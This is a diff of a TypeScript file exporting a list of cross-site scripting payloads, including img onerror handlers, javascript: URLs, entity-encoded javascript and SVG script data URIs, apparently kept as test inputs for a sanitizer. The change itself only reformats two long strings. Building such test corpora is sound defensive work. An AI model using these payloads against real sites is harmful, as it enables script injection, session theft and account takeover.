@@ -45,7 +45,8 @@ export const xssPayloads: readonly string[] = [
   `<img src=x:x onerror="${RUN}"/>`,
   `<IMG SRC= onmouseover="${RUN}">`,
   `<IMG onmouseover="${RUN}">`,
-  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${RUN}">`,
+  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#' +
+    `0000116&#0000058${RUN}">`,
   `<img/src/onerror=${RUN}>`,
   `<img src="x\`\`onerror=${RUN}">`,
   `<img src=\`x\` onerror=${RUN}>`,
@@ -97,7 +98,8 @@ export const xssPayloads: readonly string[] = [
   `<math href="javascript:${RUN}">x</math>`,
   `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`,
   `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
-  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' ` +
+    `xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
   // Everything else that loads, sends or styles.
   `<IMG SRC="javascript:${RUN};">`,
   `<IMG SRC=\`javascript:${RUN}\`>`,
